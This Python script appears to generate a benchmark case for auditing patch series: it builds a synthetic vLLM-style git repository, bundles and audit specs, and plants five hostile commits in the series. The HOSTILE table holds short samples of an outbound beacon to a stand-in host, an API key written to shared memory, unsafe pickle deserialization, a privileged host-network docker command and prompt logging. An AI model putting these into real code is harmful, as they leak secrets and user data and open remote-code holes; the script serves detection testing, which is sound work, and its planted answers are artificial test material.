"""Deterministic generator of a vLLM-scale audit case (written for this project).

    python benchmarks/generate.py OUT [--files 2600] [--commits 52] [--seed 7]

makes, under OUT:
  repo/                 one git repository: tag v1 (upstream), branch series (v1 + the series),
                        tag v2 (upstream moved on), branch series-v2 (the series rebased on v2, with a
                        few patches changed and one commit dropped)
  bundle-v1.tar.gz, bundle-v2.tar.gz   git archives of the two series heads
  series-v1.txt, series-v2.txt         the published commit lists
  audit-v1.toml, audit-v2.toml         specs (verify + scan + deps; no build: the build is excluded)
  tree/                 the v1 bundle unpacked (for whole-tree semgrep/bandit and write-tree)

The upstream has at least 2,500 files and 1,000,000 lines (mostly Python, some C++/CUDA, shell, CMake,
requirements); the series has at least 50 commits and 15,000 changed lines, five of them hostile.
"""

from __future__ import annotations

import argparse
import os
import random
import shutil
import subprocess
import tarfile
from pathlib import Path

ENV = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull, "LC_ALL": "C"}
WORDS = ("tensor block cache page token batch sched worker kv attn rope norm proj lora spec quant "
         "router expert shard rank stream slot seq prefix chunk graph kernel layer head").split()


def git(repo: Path, *args: str, when: int | None = None, author: str = "Upstream <u@up.example>",
        inp: bytes | None = None) -> str:
    env = dict(ENV)
    name, _, mail = author.partition(" <")
    env.update(GIT_AUTHOR_NAME=name, GIT_COMMITTER_NAME=name, GIT_AUTHOR_EMAIL=mail.rstrip(">"),
               GIT_COMMITTER_EMAIL=mail.rstrip(">"))
    if when is not None:
        env.update(GIT_AUTHOR_DATE=f"@{when} +0000", GIT_COMMITTER_DATE=f"@{when} +0000")
    res = subprocess.run(["git", "-C", str(repo), *args], env=env, check=True, capture_output=True,
                         input=inp)
    return res.stdout.decode().strip()


def ident(rng: random.Random, n: int = 2) -> str:
    return "_".join(rng.choice(WORDS) for _ in range(n))


def py_function(rng: random.Random, idx: int) -> list[str]:
    name = f"{ident(rng)}_{idx}"
    a, b = ident(rng, 1), ident(rng, 1) + "_n"
    return [
        f"def {name}({a}: list[int], {b}: int = {rng.randint(1, 64)}) -> int:",
        f'    """Combine {a} over {b} steps."""',
        "    total = 0",
        f"    for i, value in enumerate({a}):",
        f"        if i % max(1, {b}) == 0:",
        "            total += value * 3",
        "        else:",
        f"            total -= value // max(1, {b})",
        f"    limit = {rng.randint(100, 10_000)}",
        "    return total if abs(total) < limit else limit",
        "",
        "",
    ]


def py_class(rng: random.Random, idx: int) -> list[str]:
    name = "".join(w.capitalize() for w in ident(rng).split("_")) + str(idx)
    return [
        f"class {name}:",
        f'    """State for {name.lower()}."""',
        "",
        "    def __init__(self, size: int) -> None:",
        "        self.size = size",
        "        self.slots: dict[int, int] = {}",
        "",
        "    def put(self, key: int, value: int) -> None:",
        "        if len(self.slots) >= self.size:",
        "            self.slots.pop(next(iter(self.slots)))",
        "        self.slots[key] = value",
        "",
        "    def get(self, key: int, default: int = 0) -> int:",
        "        return self.slots.get(key, default)",
        "",
        "",
    ]


def py_file(rng: random.Random, lines: int) -> str:
    out = ['"""Generated module."""', "", "from __future__ import annotations", "", ""]
    i = 0
    while len(out) < lines:
        out += py_class(rng, i) if i % 4 == 0 else py_function(rng, i)
        i += 1
    return "\n".join(out) + "\n"


def cu_file(rng: random.Random, lines: int) -> str:
    out = ["#include <cuda_runtime.h>", ""]
    i = 0
    while len(out) < lines:
        n = f"{ident(rng)}_{i}"
        out += [f"__global__ void {n}_kernel(float* out, const float* in, int n) {{",
                "  int i = blockIdx.x * blockDim.x + threadIdx.x;",
                f"  if (i < n) out[i] = in[i] * {rng.random():.4f}f + 1.0f;", "}", "",
                f'extern "C" int {n}(float* out, const float* in, int n) {{',
                f"  {n}_kernel<<<(n + 255) / 256, 256>>>(out, in, n);",
                "  return (int)cudaGetLastError();", "}", ""]
        i += 1
    return "\n".join(out) + "\n"


def cpp_file(rng: random.Random, lines: int) -> str:
    out = ["#include <vector>", "#include <cstdint>", ""]
    i = 0
    while len(out) < lines:
        out += [f"int64_t {ident(rng)}_{i}(const std::vector<int64_t>& v) {{", "  int64_t s = 0;",
                "  for (auto x : v) s += x * 2;", "  return s;", "}", ""]
        i += 1
    return "\n".join(out) + "\n"


def upstream_files(rng: random.Random, n_files: int) -> dict[str, str]:
    files: dict[str, str] = {}
    pkgs = ["engine", "model_executor", "attention", "distributed", "entrypoints", "worker",
            "core", "lora", "spec_decode", "multimodal", "transformers_utils", "compilation"]
    n_py = int(n_files * 0.86)
    for i in range(n_py):
        pkg = pkgs[i % len(pkgs)]
        sub = f"sub{(i // len(pkgs)) % 9}"
        files[f"vllm/{pkg}/{sub}/mod_{i}.py"] = py_file(rng, rng.randint(345, 485))
    for pkg in pkgs:
        files[f"vllm/{pkg}/__init__.py"] = '"""package."""\n'
    for i in range(int(n_files * 0.06)):
        files[f"csrc/kernels/k_{i}.cu"] = cu_file(rng, rng.randint(200, 400))
    for i in range(int(n_files * 0.04)):
        files[f"csrc/cpu/c_{i}.cpp"] = cpp_file(rng, rng.randint(150, 300))
    for i in range(int(n_files * 0.02)):
        files[f"tools/script_{i}.sh"] = "#!/bin/sh\nset -eu\n" + "".join(
            f'echo "step {j}"\n' for j in range(rng.randint(20, 60)))
    files["CMakeLists.txt"] = ("cmake_minimum_required(VERSION 3.26)\nproject(vllm LANGUAGES CXX CUDA)\n"
                               "include(FetchContent)\nFetchContent_Declare(cutlass\n"
                               "  GIT_REPOSITORY https://github.com/NVIDIA/cutlass.git\n"
                               "  GIT_TAG 3f6c7b3b0d9e2f8c6e1a4b5d7c8e9f0a1b2c3d4e)\n")
    files["requirements/common.txt"] = "".join(
        f"{name}=={rng.randint(1, 9)}.{rng.randint(0, 30)}.{rng.randint(0, 9)}\n"
        for name in ("numpy", "fastapi", "uvicorn", "pydantic", "transformers", "tokenizers",
                     "sentencepiece", "prometheus-client", "aiohttp", "requests", "msgspec", "pyzmq"))
    files["requirements/cuda.txt"] = "-r common.txt\ntorch==2.9.1\nxformers==0.0.30\n"
    files["pyproject.toml"] = ('[project]\nname = "vllm"\nversion = "0.30.0"\n'
                               'dependencies = ["numpy", "fastapi"]\n')
    return files


HOSTILE = {
    5: ("vllm/usage/beacon.py", "import requests\n\n\ndef ping(model):\n"
        "    requests.post('https://t.sm86.example/p', json={'m': model}, timeout=2)\n"),
    14: ("vllm/entrypoints/keyshare.py", "import os\n\n\ndef share():\n"
         "    key = os.environ.get('VLLM_API_KEY')\n"
         "    open('/dev/shm/vllm_key', 'w').write(key)\n"),
    23: ("vllm/distributed/shm_recv.py", "import pickle\n\n\ndef recv(sock):\n"
         "    return pickle.loads(sock.recv(65536))\n"),
    31: ("scripts/quickstart.sh", "#!/bin/sh\ndocker run --privileged --network host "
         "ghcr.io/x/vllm:latest vllm serve m --host 0.0.0.0\n"),
    42: ("vllm/entrypoints/debug_log.py", "import logging\nlogger = logging.getLogger(__name__)\n\n\n"
         "def log_request(request):\n    logger.info('prompt=%s', request.prompt)\n"),
}


def make_series(repo: Path, base: str, branch: str, n_commits: int, seed: int, when: int,
                changed: set[int], dropped: set[int]) -> list[str]:
    git(repo, "checkout", "-q", "-B", branch, base)
    shas = []
    for c in range(n_commits):
        if c in dropped:
            continue
        rng = random.Random(seed * 1000 + c + (500 if c in changed else 0))
        target = repo / f"vllm/sm86/feature_{c}.py"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(py_file(rng, 300))
        k = repo / f"csrc/sm86/kern_{c % 7}.cu"
        k.parent.mkdir(parents=True, exist_ok=True)
        k.write_text(cu_file(random.Random(seed + c), 60 + c))
        if c in HOSTILE:
            rel, text = HOSTILE[c]
            (repo / rel).parent.mkdir(parents=True, exist_ok=True)
            (repo / rel).write_text(text)
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", f"sm86: feature {c}", when=when + c * 60,
            author="sm86 fan <fan@users.example>")
        shas.append(git(repo, "rev-parse", "HEAD"))
    return shas


def write_spec(out: Path, name: str, tag: str, branch: str, series: str, bundle: str) -> None:
    (out / name).write_text(
        f'[engine]\nprofile = "vllm"\nversion = "0.30.0"\n\n'
        f'[upstream]\nrepo = "repo"\nref = "{tag}"\n\n'
        f'[patches]\nref = "{branch}"\ncommits_file = "{series}"\n\n'
        f'[bundle]\npath = "{bundle}"\nstrip_components = 1\n\n'
        f'[scan]\nscope = "diff"\n\n[deps]\nvulns = "none"\n')


def generate(out: Path, n_files: int, n_commits: int, seed: int) -> None:
    out = out.resolve()  # git -C repo resolves relative paths against repo, not the caller
    if out.exists():
        shutil.rmtree(out)
    repo = out / "repo"
    repo.mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    rng = random.Random(seed)
    for rel, text in upstream_files(rng, n_files).items():
        p = repo / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
        if rel.endswith(".sh"):
            p.chmod(0o755)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "vllm 0.30.0", when=1_760_000_000)
    git(repo, "tag", "v1")
    # upstream moves on: 40 files change, none of them touched by the series
    for i in range(40):
        p = repo / f"vllm/engine/sub0/mod_{i * 12}.py"
        if p.exists():
            p.write_text(p.read_text() + f"\n\nUPSTREAM_FIX_{i} = {i}\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "vllm 0.30.1", when=1_761_000_000)
    git(repo, "tag", "v2")

    v1 = make_series(repo, "v1", "series", n_commits, seed, 1_762_000_000, set(), set())
    v2 = make_series(repo, "v2", "series-v2", n_commits + 1, seed, 1_763_000_000,
                     changed={10, 20, n_commits}, dropped={30})
    for name, shas in (("series-v1.txt", v1), ("series-v2.txt", v2)):
        (out / name).write_text("".join(s + "\n" for s in shas))
    for branch, bundle in (("series", "bundle-v1.tar.gz"), ("series-v2", "bundle-v2.tar.gz")):
        git(repo, "archive", "--format=tar.gz", "--prefix=vllm/", "-o", str(out / bundle), branch)
    git(repo, "checkout", "-q", "main")
    write_spec(out, "audit-v1.toml", "v1", "series", "series-v1.txt", "bundle-v1.tar.gz")
    write_spec(out, "audit-v2.toml", "v2", "series-v2", "series-v2.txt", "bundle-v2.tar.gz")
    tree = out / "tree"
    tree.mkdir()
    with tarfile.open(out / "bundle-v1.tar.gz") as tar:
        tar.extractall(tree, filter="data")
    stat = git(repo, "diff", "--shortstat", "v1", "series")
    files = git(repo, "ls-tree", "-r", "--name-only", "v1").count("\n") + 1
    lines = sum(1 for p in (tree / "vllm").rglob("*") if p.is_file()
                for _ in p.open("rb"))
    print(f"upstream v1: {files} files; bundle: {lines} lines; series: {len(v1)} commits, {stat}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--files", type=int, default=2600)
    ap.add_argument("--commits", type=int, default=52)
    ap.add_argument("--seed", type=int, default=7)
    args = ap.parse_args()
    generate(args.out, args.files, args.commits, args.seed)


if __name__ == "__main__":
    main()
